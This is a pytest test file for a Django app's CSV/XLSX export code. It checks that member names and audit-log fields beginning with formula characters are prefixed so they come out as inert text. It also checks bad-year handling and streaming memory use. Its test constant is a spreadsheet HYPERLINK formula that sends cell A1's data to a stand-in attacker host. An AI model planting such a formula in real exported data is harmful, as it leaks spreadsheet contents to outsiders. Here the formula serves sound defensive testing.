"""Issue 9 — the one exporter (core.exports) and the exports that use it besides the desk's
(tests/opinions/test_hostile_text.py): the ranking (CSV/XLSX) and the audit-log CSV. A member's
name "=HYPERLINK(…)" comes out as text, never a live formula; a bad year is a 400."""

import csv
import datetime
import io
import tempfile
import tracemalloc

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from audit import chain as audit
from audit.models import AuditLog
from core.exports import export_response, safe_cell, safe_text, write_export
from tests.ledger.test_ledger_pages import _points
from tests.members.factories import MemberFactory

pytestmark = pytest.mark.usefixtures("frozen_now")

EVIL = '=HYPERLINK("http://e.vil/?"&A1,"点我")'  # fits a member's name (40)


@pytest.mark.parametrize(
    "text",
    [
        "=1",
        "+1",
        "-1",
        "@A1",
        "\t=1",
        "\r=1",
        " =1",
        "\u3000=1",
        "\n=1",
        "＝1",
        "＋1",
        "－1",
        "＠1",
    ],
)
def test_formula_triggers_are_prefixed(text):
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", ["张三", "1+1", "a=b", "（=）", ""])
def test_plain_text_is_untouched(text):
    assert safe_text(text) == text


def test_numbers_stay_numbers_and_text_is_xml_safe():
    assert safe_cell(-5) == -5 and safe_cell(2.5) == 2.5
    assert safe_cell(datetime.date(2026, 6, 1)) == datetime.date(2026, 6, 1)
    assert safe_text("路\ufffe灯\x0b") == "路灯"
    assert safe_text(None) == ""


def test_export_response_file_name_cannot_carry_header_characters():
    response = export_response(fmt="csv", filename='a"\x00\r\nb', header=["h"], rows=[])
    assert response["Content-Disposition"] == 'attachment; filename="a____b.csv"'


@pytest.fixture
def evil_member(dalate, staff_dalate):
    member = MemberFactory(committee=dalate, name=EVIL)
    _points(member, staff_dalate, 1)
    return member


def test_ranking_csv_and_xlsx_are_inert(client, evil_member, staff_dalate):
    client.force_login(staff_dalate)
    url = reverse("ledger:ledger_export", args=["csv"])
    rows = list(
        csv.reader(io.StringIO(client.get(url, {"year": 2026}).getvalue().decode("utf-8-sig")))
    )
    assert rows[1][1] == "'" + EVIL
    response = client.get(reverse("ledger:ledger_export", args=["xlsx"]), {"year": 2026})
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    cell = sheet["B2"]
    assert cell.data_type == "s" and cell.value == "'" + EVIL
    # numbers are still numbers
    assert sheet["F2"].data_type == "n"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("year", ["\x00", "²", "1E+400", "99999", "abc"])
def test_ranking_export_with_a_bad_year_is_a_400(client, staff_dalate, evil_member, fmt, year):
    client.force_login(staff_dalate)
    response = client.get(reverse("ledger:ledger_export", args=[fmt]), {"year": year})
    assert response.status_code == 400
    assert "年度" in response.content.decode()
    assert not AuditLog.objects.filter(action="export_ranking").exists()


@pytest.mark.parametrize("year", ["²", "٢٠٢٦", "2026\x00", "9" * 40])
def test_member_ledger_page_with_a_non_ascii_year_shows_this_year(
    client, staff_dalate, evil_member, year
):
    client.force_login(staff_dalate)
    response = client.get(reverse("ledger:ledger_member", args=[evil_member.pk]), {"year": year})
    assert response.status_code == 200
    assert response.context["year"] == 2026


def test_audit_log_csv_is_inert(admin):
    audit.append(actor=None, action="login_failed", target=EVIL, detail={"x": "=1+1"}, ip=None)
    client = Client()
    client.force_login(admin)
    entries = list(AuditLog.objects.order_by("pk").values_list("pk", flat=True))
    response = client.post(
        reverse("admin:audit_auditlog_changelist"),
        {"action": "export_csv", "_selected_action": entries},
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))
    assert rows[0] == ["time", "actor", "action", "target", "ip", "detail", "hash"]
    assert rows[1][3] == "'" + EVIL


def test_attendance_with_a_unicode_digit_is_no_500(client, dalate, staff_dalate):
    from tests.workstations.factories import ActivityFactory

    activity = ActivityFactory(reporter=MemberFactory(committee=dalate))
    client.force_login(staff_dalate)
    response = client.post(
        reverse("liaison:activity_attendance", args=[activity.pk]),
        {"attended": ["²", "9" * 40], "excused": ["٣"]},
    )
    assert response.status_code == 302


def _rows(n):
    for i in range(n):
        yield [f"JY-2026-{i:06d}", f"关于第{i}条道路的建议", 12.5, datetime.date(2026, 6, 1)]


class _Sink:
    def write(self, data):
        return len(data)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_takes_the_same_memory_for_1000_rows_and_for_50000(fmt):
    """Rows are written as they come (a CSV streamed, an XLSX by the write-only workbook with
    inline strings): the peak does not grow with the number of rows."""
    peaks = {}
    for n in (1000, 50_000):
        with tempfile.TemporaryFile() as out:
            tracemalloc.start()
            written = write_export(
                out if fmt == "xlsx" else _Sink(),
                fmt=fmt,
                header=["a", "b", "c", "d"],
                rows=_rows(n),
            )
            _current, peaks[n] = tracemalloc.get_traced_memory()
            tracemalloc.stop()
        assert written == n
    assert peaks[50_000] < peaks[1000] * 1.2 + 64 * 1024, peaks


def test_a_streamed_csv_is_read_while_it_is_sent():
    consumed = []

    def rows():
        for i in range(3):
            consumed.append(i)
            yield [i, f"=A{i}"]

    response = export_response(fmt="csv", filename="x", header=["n", "f"], rows=rows())
    assert response.streaming and consumed == []  # nothing read before the response is sent
    assert response.getvalue().decode("utf-8-sig").splitlines() == [
        "n,f",
        "0,'=A0",
        "1,'=A1",
        "2,'=A2",
    ]
